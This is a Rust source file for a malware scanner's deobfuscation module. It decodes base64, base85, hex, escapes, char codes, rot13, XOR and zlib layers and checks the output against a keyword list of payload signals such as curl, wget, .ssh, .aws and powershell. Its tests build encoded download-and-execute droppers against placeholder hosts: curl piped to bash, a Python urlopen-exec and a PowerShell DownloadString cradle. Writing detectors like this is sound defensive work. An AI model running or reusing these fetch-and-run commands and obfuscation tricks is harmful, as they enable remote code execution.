//! Deobfuscation: find encoded runs in a file's text (base64, base32, base85, hex, `\x`/`\u`
//! escapes, percent-encoding, character-code lists, rot13, payloads split into keyed pieces),
//! decode them — through XOR with a one-byte key, zlib/gzip and UTF-16 where needed — to a
//! bounded depth, and hand the decoded text back so every rule runs on it again. Each payload
//! keeps the span of the outermost encoded run in the file and the chain of steps that produced
//! it (`base64 → zlib`), which is what findings report.

use std::io::Read;
use std::ops::Range;

use base64::Engine as _;

pub mod emulate;

/// Bounds on decoding work per file.
#[derive(Debug, Clone)]
pub struct DecodeLimits {
    pub max_depth: usize,
    pub max_payloads: usize,
    pub max_decoded_bytes: usize,
    /// Shortest encoded run considered.
    pub min_run: usize,
}

impl Default for DecodeLimits {
    fn default() -> Self {
        DecodeLimits { max_depth: 3, max_payloads: 64, max_decoded_bytes: 1024 * 1024, min_run: 20 }
    }
}

/// A decoded payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    /// Byte range of the outermost encoded text in the file.
    pub span: Range<usize>,
    pub chain: Vec<String>,
    pub text: String,
}

/// Words whose presence makes decoded text worth keeping when it came out of a guessy step
/// (XOR brute force, rot13): they are what payloads do.
const SIGNALS: &[&str] = &[
    "http",
    "curl",
    "wget",
    "bash",
    "sh -c",
    "/bin/",
    "exec",
    "eval",
    "import ",
    "require(",
    "powershell",
    "iex",
    "invoke-",
    "subprocess",
    "urlopen",
    "socket",
    "child_process",
    "base64",
    "chmod",
    "system(",
    "popen",
    ".ssh",
    ".aws",
    "token",
    "password",
    "secret",
    "fetch(",
    "download",
];

fn has_signal(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    SIGNALS.iter().any(|s| lower.contains(s))
}

/// Whether decoded bytes read as text: valid UTF-8 (or UTF-16LE with a zero every other byte),
/// mostly printable, with some letters.
fn as_text(bytes: &[u8]) -> Option<(String, bool)> {
    if bytes.len() >= 8 && bytes.len().is_multiple_of(2) {
        let odd_zeros = bytes.iter().skip(1).step_by(2).filter(|&&b| b == 0).count();
        if odd_zeros * 10 >= bytes.len() / 2 * 9 {
            let units: Vec<u16> = bytes.chunks_exact(2).map(|p| u16::from_le_bytes([p[0], p[1]])).collect();
            let text = String::from_utf16(&units).ok()?;
            return texty(&text).then_some((text, true));
        }
    }
    let text = std::str::from_utf8(bytes).ok()?;
    texty(text).then(|| (text.to_string(), false))
}

fn texty(text: &str) -> bool {
    let total = text.chars().count();
    if total < 6 {
        return false;
    }
    let printable = text.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t')).count();
    let wordish = text.chars().filter(|c| c.is_alphanumeric() || *c == ' ').count();
    printable * 100 >= total * 95 && wordish * 100 >= total * 55
}

fn is_b64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_')
}

/// Runs of base64/base32/hex alphabet characters (plus `=` padding) of at least `min` bytes.
fn alphabet_runs(text: &str, min: usize) -> Vec<Range<usize>> {
    let bytes = text.as_bytes();
    let mut runs = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if !is_b64(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && is_b64(bytes[i]) {
            i += 1;
        }
        while i < bytes.len() && bytes[i] == b'=' && i - start < usize::MAX {
            i += 1;
        }
        if i - start >= min {
            runs.push(start..i);
        }
    }
    runs
}

fn decode_base64(run: &str) -> Option<Vec<u8>> {
    use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
    const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent);
    const STANDARD: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
    const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);
    let mut trimmed = run.trim_end_matches('=');
    // A single trailing character cannot be base64 (a run glued to a word); drop it.
    if trimmed.len() % 4 == 1 {
        trimmed = &trimmed[..trimmed.len() - 1];
    }
    let engine = if trimmed.contains(['-', '_']) { &URL_SAFE } else { &STANDARD };
    engine.decode(trimmed).ok()
}

fn decode_base32(run: &str) -> Option<Vec<u8>> {
    let upper = run.trim_end_matches('=');
    if !upper.bytes().all(|b| b.is_ascii_uppercase() || (b'2'..=b'7').contains(&b)) {
        return None;
    }
    let mut padded = upper.to_string();
    while !padded.len().is_multiple_of(8) {
        padded.push('=');
    }
    data_encoding::BASE32.decode(padded.as_bytes()).ok()
}

fn decode_hex(run: &str) -> Option<Vec<u8>> {
    if !run.len().is_multiple_of(2) || !run.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    hex::decode(run).ok()
}

/// Python's b85 alphabet (also used by git): the dropper style `base64.b85decode(BLOB)`.
fn decode_b85(run: &str) -> Option<Vec<u8>> {
    decode_85(run.as_bytes(), b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~")
}

/// ZeroMQ's Z85 alphabet (`zmq.utils.z85.decode`).
fn decode_z85(run: &str) -> Option<Vec<u8>> {
    decode_85(run.as_bytes(), b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#")
}

/// Ascii85 (`base64.a85decode`, Adobe `<~ … ~>`): `!`..`u`, `z` for four zero bytes, whitespace ignored.
fn decode_a85(run: &str) -> Option<Vec<u8>> {
    let body = run.trim();
    let body = body.strip_prefix("<~").unwrap_or(body);
    let body = body.strip_suffix("~>").unwrap_or(body);
    let mut expanded = Vec::with_capacity(body.len());
    for b in body.bytes() {
        match b {
            b'z' => expanded.extend_from_slice(b"!!!!!"),
            b' ' | b'\t' | b'\n' | b'\r' => {}
            _ => expanded.push(b),
        }
    }
    let alphabet: Vec<u8> = (b'!'..=b'u').collect();
    decode_85(&expanded, &alphabet)
}

/// Base85 over `alphabet`, big-endian groups of five digits, a short last group padded with the
/// highest digit (the shared core of b85, Z85 and Ascii85).
fn decode_85(chars: &[u8], alphabet: &[u8]) -> Option<Vec<u8>> {
    let mut table = [255u8; 256];
    for (i, &c) in alphabet.iter().enumerate() {
        table[c as usize] = i as u8;
    }
    let mut out = Vec::with_capacity(chars.len() * 4 / 5);
    for chunk in chars.chunks(5) {
        let mut acc: u64 = 0;
        for i in 0..5 {
            let value = match chunk.get(i) {
                Some(&c) if table[c as usize] != 255 => table[c as usize] as u64,
                Some(_) => return None,
                None => 84,
            };
            acc = acc * 85 + value;
        }
        if acc > u32::MAX as u64 {
            return None;
        }
        let bytes = (acc as u32).to_be_bytes();
        out.extend_from_slice(&bytes[..chunk.len() - 1]);
    }
    Some(out)
}

fn inflate(bytes: &[u8], limit: usize) -> Option<(Vec<u8>, &'static str)> {
    let mut out = Vec::new();
    let (ok, step) = if bytes.starts_with(&[0x1f, 0x8b]) {
        (flate2::read::GzDecoder::new(bytes).take(limit as u64).read_to_end(&mut out).is_ok(), "gzip")
    } else if bytes.len() > 2 && bytes[0] == 0x78 && matches!(bytes[1], 0x01 | 0x5e | 0x9c | 0xda) {
        (flate2::read::ZlibDecoder::new(bytes).take(limit as u64).read_to_end(&mut out).is_ok(), "zlib")
    } else {
        return None;
    };
    (ok && !out.is_empty()).then_some((out, step))
}

/// Tries single-byte XOR keys on binary data; keeps the key whose output is text with the most
/// payload signals (ties go to the output with more letters and spaces).
fn xor_guess(bytes: &[u8]) -> Option<(String, u8)> {
    if bytes.len() < 8 || bytes.len() > 16 * 1024 {
        return None;
    }
    let score = |text: &str| {
        let lower = text.to_ascii_lowercase();
        let signals = SIGNALS.iter().filter(|s| lower.contains(*s)).count();
        let plain = text.chars().filter(|c| c.is_ascii_lowercase() || *c == ' ').count() * 100 / text.len().max(1);
        signals * 1000 + plain
    };
    (1u8..=255)
        .filter_map(|key| {
            let decoded: Vec<u8> = bytes.iter().map(|b| b ^ key).collect();
            let (text, _) = as_text(&decoded)?;
            has_signal(&text).then(|| (score(&text), text, key))
        })
        .max_by_key(|(score, _, _)| *score)
        .map(|(_, text, key)| (text, key))
}

/// Decodes `bytes` that came out of `step` into text, going through compression, UTF-16 and
/// (when the file hints at XOR) a one-byte XOR key.
fn finish(bytes: Vec<u8>, step: &str, xor_hint: bool, limits: &DecodeLimits) -> Option<(Vec<String>, String)> {
    let mut chain = vec![step.to_string()];
    let mut bytes = bytes;
    if let Some((inflated, how)) = inflate(&bytes, limits.max_decoded_bytes) {
        chain.push(how.to_string());
        bytes = inflated;
    }
    if let Some((text, utf16)) = as_text(&bytes) {
        if utf16 {
            chain.push("utf-16le".to_string());
        }
        return Some((chain, text));
    }
    if xor_hint && let Some((text, key)) = xor_guess(&bytes) {
        chain.push(format!("xor(0x{key:02x})"));
        return Some((chain, text));
    }
    None
}

fn rot13(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'a'..='m' | 'A'..='M' => (c as u8 + 13) as char,
            'n'..='z' | 'N'..='Z' => (c as u8 - 13) as char,
            _ => c,
        })
        .collect()
}

/// String literal bodies (single, double or backtick quoted, one line) of at least `min` chars.
fn quoted(text: &str, min: usize) -> Vec<Range<usize>> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let q = bytes[i];
        if matches!(q, b'"' | b'\'' | b'`') {
            let start = i + 1;
            let mut j = start;
            while j < bytes.len() && bytes[j] != q && bytes[j] != b'\n' {
                j += if bytes[j] == b'\\' { 2 } else { 1 };
            }
            if j < bytes.len() && bytes[j] == q {
                if j - start >= min {
                    out.push(start..j);
                }
                i = j + 1;
                continue;
            }
        }
        i += 1;
    }
    out
}

/// Escape runs: `\x63\x75…`, `\u0063…`, `\143…` (at least four escapes).
fn escape_runs(text: &str) -> Vec<(Range<usize>, String)> {
    let re = regex_lite();
    re.find_iter(text)
        .filter_map(|m| {
            let decoded = unescape(m.as_str())?;
            Some((m.range(), decoded))
        })
        .collect()
}

fn regex_lite() -> &'static regex::Regex {
    use std::sync::OnceLock;
    static RE: OnceLock<regex::Regex> = OnceLock::new();
    RE.get_or_init(|| {
        regex::Regex::new(r"(?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\u\{[0-9a-fA-F]{1,6}\}|\\[0-3][0-7]{2}){4,}")
            .expect("valid escape regex")
    })
}

fn unescape(run: &str) -> Option<String> {
    let mut bytes = Vec::new();
    let mut chars = run.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        if c != '\\' {
            return None;
        }
        let rest = &run[i + 1..];
        if let Some(hex) = rest.strip_prefix('x') {
            bytes.push(u8::from_str_radix(hex.get(..2)?, 16).ok()?);
            for _ in 0..3 {
                chars.next();
            }
        } else if let Some(braced) = rest.strip_prefix("u{") {
            let end = braced.find('}')?;
            let ch = char::from_u32(u32::from_str_radix(&braced[..end], 16).ok()?)?;
            bytes.extend_from_slice(ch.to_string().as_bytes());
            for _ in 0..end + 3 {
                chars.next();
            }
        } else if let Some(hex) = rest.strip_prefix('u') {
            let ch = char::from_u32(u32::from_str_radix(hex.get(..4)?, 16).ok()?)?;
            bytes.extend_from_slice(ch.to_string().as_bytes());
            for _ in 0..5 {
                chars.next();
            }
        } else {
            bytes.push(u8::from_str_radix(rest.get(..3)?, 8).ok()?);
            for _ in 0..3 {
                chars.next();
            }
        }
    }
    String::from_utf8(bytes).ok()
}

/// Percent-encoded runs with at least four `%XX` escapes.
fn percent_runs(text: &str) -> Vec<(Range<usize>, String)> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'%' {
            i += 1;
            continue;
        }
        let start = i;
        let mut escapes = 0;
        let mut decoded = Vec::new();
        while i < bytes.len() {
            if bytes[i] == b'%'
                && i + 2 < bytes.len() + 1
                && text.get(i + 1..i + 3).is_some_and(|h| h.bytes().all(|b| b.is_ascii_hexdigit()))
            {
                decoded.push(u8::from_str_radix(&text[i + 1..i + 3], 16).unwrap_or(b'?'));
                escapes += 1;
                i += 3;
            } else if bytes[i].is_ascii_alphanumeric() || matches!(bytes[i], b'.' | b'_' | b'~' | b'-' | b'+') {
                decoded.push(if bytes[i] == b'+' { b' ' } else { bytes[i] });
                i += 1;
            } else {
                break;
            }
        }
        if escapes >= 4
            && let Ok(text) = String::from_utf8(decoded)
        {
            out.push((start..i, text));
        }
        i = i.max(start + 1);
    }
    out
}

/// Lists of eight or more character codes: `[99, 117, …]`, `fromCharCode(99,…)`, `chr(99)+chr(117)`,
/// `[char]99+[char]117`, `0x63, 0x75, …`.
fn charcode_runs(text: &str) -> Vec<(Range<usize>, String)> {
    use std::sync::OnceLock;
    static LIST: OnceLock<regex::Regex> = OnceLock::new();
    static CALLS: OnceLock<regex::Regex> = OnceLock::new();
    let list = LIST.get_or_init(|| {
        regex::Regex::new(r"(?i)(?:(?:0x[0-9a-f]{2}|\d{1,3})\s*,\s*){7,}(?:0x[0-9a-f]{2}|\d{1,3})")
            .expect("valid list regex")
    });
    let calls = CALLS.get_or_init(|| {
        regex::Regex::new(r"(?i)(?:(?:chr|\[char\])\s*\(?\s*(?:0x[0-9a-f]+|\d{1,3})\s*\)?\s*[+,]?\s*){8,}")
            .expect("valid call regex")
    });
    let number = |token: &str| -> Option<u32> {
        let token = token.trim();
        let lower = token.to_ascii_lowercase();
        match lower.strip_prefix("0x") {
            Some(hex) => u32::from_str_radix(hex, 16).ok(),
            None => token.parse().ok(),
        }
    };
    let decode = |numbers: Vec<u32>| -> Option<String> {
        let printable = numbers.iter().all(|&n| n == 9 || n == 10 || n == 13 || (32..127).contains(&n));
        (printable && numbers.len() >= 8).then(|| numbers.iter().filter_map(|&n| char::from_u32(n)).collect())
    };
    let mut out = Vec::new();
    for m in list.find_iter(text) {
        let numbers: Option<Vec<u32>> = m.as_str().split(',').map(number).collect();
        if let Some(decoded) = numbers.and_then(decode) {
            out.push((m.range(), decoded));
        }
    }
    for m in calls.find_iter(text) {
        let digits = regex_numbers(m.as_str());
        if let Some(decoded) = decode(digits) {
            out.push((m.range(), decoded));
        }
    }
    out
}

fn regex_numbers(text: &str) -> Vec<u32> {
    use std::sync::OnceLock;
    static NUM: OnceLock<regex::Regex> = OnceLock::new();
    let num = NUM.get_or_init(|| regex::Regex::new(r"(?i)0x[0-9a-f]+|\d{1,3}").expect("valid number regex"));
    num.find_iter(text)
        .filter_map(|m| {
            let s = m.as_str().to_ascii_lowercase();
            match s.strip_prefix("0x") {
                Some(hex) => u32::from_str_radix(hex, 16).ok(),
                None => s.parse().ok(),
            }
        })
        .collect()
}

/// Base64 pieces held in `{index: "piece"}` maps or in arrays, reassembled in key (or array)
/// order: the "payload split into scrambled pieces" trick.
fn piece_runs(text: &str) -> Vec<(Range<usize>, String)> {
    use std::sync::OnceLock;
    static KEYED: OnceLock<regex::Regex> = OnceLock::new();
    let keyed = KEYED.get_or_init(|| {
        regex::Regex::new(r#"["']?(\d{1,3})["']?\s*:\s*["']([A-Za-z0-9+/=_-]{2,64})["']"#).expect("valid keyed regex")
    });
    let mut pieces: Vec<(u32, String, Range<usize>)> = keyed
        .captures_iter(text)
        .filter_map(|c| Some((c.get(1)?.as_str().parse().ok()?, c.get(2)?.as_str().to_string(), c.get(0)?.range())))
        .collect();
    if pieces.len() < 4 {
        return Vec::new();
    }
    let span = pieces.iter().map(|p| p.2.start).min().unwrap_or(0)..pieces.iter().map(|p| p.2.end).max().unwrap_or(0);
    pieces.sort_by_key(|p| p.0);
    let joined: String = pieces.into_iter().map(|p| p.1).collect();
    vec![(span, joined)]
}

/// Finds and decodes every payload of `text`, recursively.
pub fn decode_all(text: &str, limits: &DecodeLimits) -> Vec<Payload> {
    let mut out = Vec::new();
    let mut budget = limits.max_decoded_bytes;
    let hints = Hints::of(text);
    decode_into(text, None, &[], 1, limits, &hints, &mut budget, &mut out);
    out
}

/// Clues in the file about which guessy decoders are worth trying.
struct Hints {
    xor: bool,
    b85: bool,
    rot13: bool,
}

impl Hints {
    fn of(text: &str) -> Hints {
        let lower_has = |needle: &str| memchr::memmem::find(text.as_bytes(), needle.as_bytes()).is_some();
        Hints {
            xor: lower_has("^") || lower_has("xor") || lower_has("XOR") || lower_has("-bxor"),
            b85: lower_has("85decode") || lower_has("<~"),
            rot13: lower_has("rot13") || lower_has("rot_13") || lower_has("ROT13") || lower_has("rot-13"),
        }
    }
}

#[allow(clippy::too_many_arguments)]
fn decode_into(
    text: &str,
    outer: Option<&Range<usize>>,
    chain: &[String],
    depth: usize,
    limits: &DecodeLimits,
    hints: &Hints,
    budget: &mut usize,
    out: &mut Vec<Payload>,
) {
    if depth > limits.max_depth {
        return;
    }
    let mut found: Vec<(Range<usize>, Vec<String>, String)> = Vec::new();
    for run in alphabet_runs(text, limits.min_run) {
        let s = &text[run.clone()];
        let has_upper = s.bytes().any(|b| b.is_ascii_uppercase());
        let has_lower = s.bytes().any(|b| b.is_ascii_lowercase());
        let all_hex = s.bytes().all(|b| b.is_ascii_hexdigit());
        let decoded = if all_hex && s.len() >= 16 {
            decode_hex(s).and_then(|b| finish(b, "hex", hints.xor, limits))
        } else if has_upper && !has_lower {
            decode_base32(s).and_then(|b| finish(b, "base32", hints.xor, limits))
        } else if has_upper && has_lower {
            decode_base64(s).and_then(|b| finish(b, "base64", hints.xor, limits))
        } else {
            None
        };
        if let Some((steps, decoded)) = decoded {
            found.push((run, steps, decoded));
        }
    }
    if hints.b85 {
        for range in quoted(text, limits.min_run) {
            if let Some((steps, decoded)) =
                decode_b85(&text[range.clone()]).and_then(|b| finish(b, "base85", hints.xor, limits))
            {
                found.push((range, steps, decoded));
            }
        }
    }
    if hints.rot13 {
        for range in quoted(text, limits.min_run) {
            let decoded = rot13(&text[range.clone()]);
            if has_signal(&decoded) && !has_signal(&text[range.clone()]) {
                found.push((range, vec!["rot13".to_string()], decoded));
            }
        }
    }
    for (range, decoded) in escape_runs(text) {
        found.push((range, vec!["escapes".to_string()], decoded));
    }
    for (range, decoded) in percent_runs(text) {
        found.push((range, vec!["percent".to_string()], decoded));
    }
    for (range, decoded) in charcode_runs(text) {
        found.push((range, vec!["char-codes".to_string()], decoded));
    }
    for (range, joined) in piece_runs(text) {
        if let Some((steps, decoded)) = decode_base64(&joined).and_then(|b| finish(b, "base64", hints.xor, limits)) {
            let mut steps = steps;
            steps.insert(0, "joined-pieces".to_string());
            found.push((range, steps, decoded));
        }
    }
    for (range, steps, decoded) in found {
        if out.len() >= limits.max_payloads || decoded.len() > *budget {
            return;
        }
        *budget -= decoded.len();
        let span = outer.cloned().unwrap_or_else(|| range.clone());
        let mut full_chain = chain.to_vec();
        full_chain.extend(steps);
        out.push(Payload { span: span.clone(), chain: full_chain.clone(), text: decoded.clone() });
        decode_into(&decoded, Some(&span), &full_chain, depth + 1, limits, hints, budget, out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decode(text: &str) -> Vec<Payload> {
        decode_all(text, &DecodeLimits::default())
    }

    #[test]
    fn base64_dropper_decodes_with_its_span() {
        let text = "echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzIwMy4wLjExMy43L2s5eDIpIg==' | base64 -D | bash";
        let payloads = decode(text);
        assert_eq!(payloads[0].chain, ["base64"]);
        assert!(payloads[0].text.contains("curl -fsSL http://203.0.113.7/k9x2"));
        assert_eq!(
            &text[payloads[0].span.clone()],
            "L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzIwMy4wLjExMy43L2s5eDIpIg=="
        );
    }

    #[test]
    fn double_base64_reports_the_chain_and_the_outer_span() {
        let inner = base64::engine::general_purpose::STANDARD.encode("curl -s https://x.example.invalid/p | bash");
        let outer = base64::engine::general_purpose::STANDARD.encode(&inner);
        let text = format!("echo {outer} | base64 -d | base64 -d | bash");
        let payloads = decode(&text);
        let deepest = payloads.iter().find(|p| p.chain == ["base64", "base64"]).expect("two levels");
        assert!(deepest.text.contains("curl -s"));
        assert_eq!(&text[deepest.span.clone()], outer);
    }

    #[test]
    fn hex_escapes_char_codes_percent_and_pieces() {
        assert!(decode(r"bash -c $'\x63\x75\x72\x6c\x20\x2d\x73'")[0].text.starts_with("curl -s"));
        assert_eq!(decode("String.fromCharCode(99,117,114,108,32,45,115,32)")[0].text, "curl -s ");
        assert_eq!(decode("chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(45)+chr(115)+chr(32)")[0].text, "curl -s ");
        assert!(decode("x=%63%75%72%6c%20-s%20http")[0].text.starts_with("curl -s http"));
        let b64 = base64::engine::general_purpose::STANDARD.encode("curl -s https://x.example.invalid/p | sh");
        let pieces: Vec<String> = b64
            .as_bytes()
            .chunks(8)
            .enumerate()
            .map(|(i, c)| format!("{i}: '{}'", String::from_utf8_lossy(c)))
            .rev()
            .collect();
        let text = format!("P = {{{}}}", pieces.join(", "));
        assert!(decode(&text).iter().any(|p| p.text.contains("curl -s") && p.chain[0] == "joined-pieces"));
    }

    #[test]
    fn b85_then_xor_and_zlib_then_utf16() {
        let payload = b"import urllib.request as u; exec(u.urlopen('https://x.example.invalid/p').read())";
        let xored: Vec<u8> = payload.iter().map(|b| b ^ 0x5a).collect();
        // Python-compatible b85 encoding of the XORed bytes.
        const ALPHABET: &[u8] =
            b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
        let mut b85 = String::new();
        for chunk in xored.chunks(4) {
            let mut block = [0u8; 4];
            block[..chunk.len()].copy_from_slice(chunk);
            let mut n = u32::from_be_bytes(block) as u64;
            let mut digits = [0u8; 5];
            for d in digits.iter_mut().rev() {
                *d = ALPHABET[(n % 85) as usize];
                n /= 85;
            }
            b85.push_str(std::str::from_utf8(&digits[..chunk.len() + 1]).unwrap());
        }
        let text = format!("k = 0x5a\nexec(bytes(b ^ k for b in base64.b85decode(\"{b85}\")).decode())");
        let payloads = decode(&text);
        assert!(
            payloads.iter().any(|p| p.chain == ["base85", "xor(0x5a)"] && p.text.contains("urlopen")),
            "{payloads:?}"
        );

        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut z, b"curl -s https://x.example.invalid/p | sh").unwrap();
        let zipped = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
        assert_eq!(
            decode(&format!("exec(zlib.decompress(base64.b64decode('{zipped}')))"))[0].chain,
            ["base64", "zlib"]
        );

        let utf16: Vec<u8> = "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes())
            .collect();
        let encoded = base64::engine::general_purpose::STANDARD.encode(utf16);
        let p = &decode(&format!("powershell -EncodedCommand {encoded}"))[0];
        assert_eq!(p.chain, ["base64", "utf-16le"]);
        assert!(p.text.starts_with("iex"));
    }

    #[test]
    fn rot13_needs_a_hint_and_a_signal() {
        let text = "codecs.decode(_L, 'rot13')\n_L = 'phey -f uggcf://k.rknzcyr.vainyvq/c | fu'";
        assert!(decode(text).iter().any(|p| p.chain == ["rot13"] && p.text.starts_with("curl -s https")));
        assert!(decode("_L = 'phey -f uggcf://k.rknzcyr.vainyvq/c | fu'").is_empty());
    }

    #[test]
    fn images_hashes_and_identifiers_are_not_payloads() {
        assert!(decode("sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08").is_empty());
        assert!(decode("const someVeryLongCamelCaseIdentifierName = 1;").is_empty());
        let png = base64::engine::general_purpose::STANDARD.encode([
            0x89, b'P', b'N', b'G', 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 16, 0, 0, 0, 16, 8, 6, 0, 0, 0,
        ]);
        assert!(decode(&format!("data:image/png;base64,{png}")).is_empty());
    }

    #[test]
    fn depth_and_count_are_bounded() {
        let mut text = "curl -s https://x.example.invalid/p | sh".to_string();
        for _ in 0..6 {
            text = base64::engine::general_purpose::STANDARD.encode(&text);
        }
        assert!(decode(&text).len() <= 3);
        let many: String = (0..200)
            .map(|i| {
                format!(
                    "'{}' ",
                    base64::engine::general_purpose::STANDARD
                        .encode(format!("curl -s https://x{i}.example.invalid | sh"))
                )
            })
            .collect();
        assert_eq!(decode(&many).len(), DecodeLimits::default().max_payloads);
    }
}
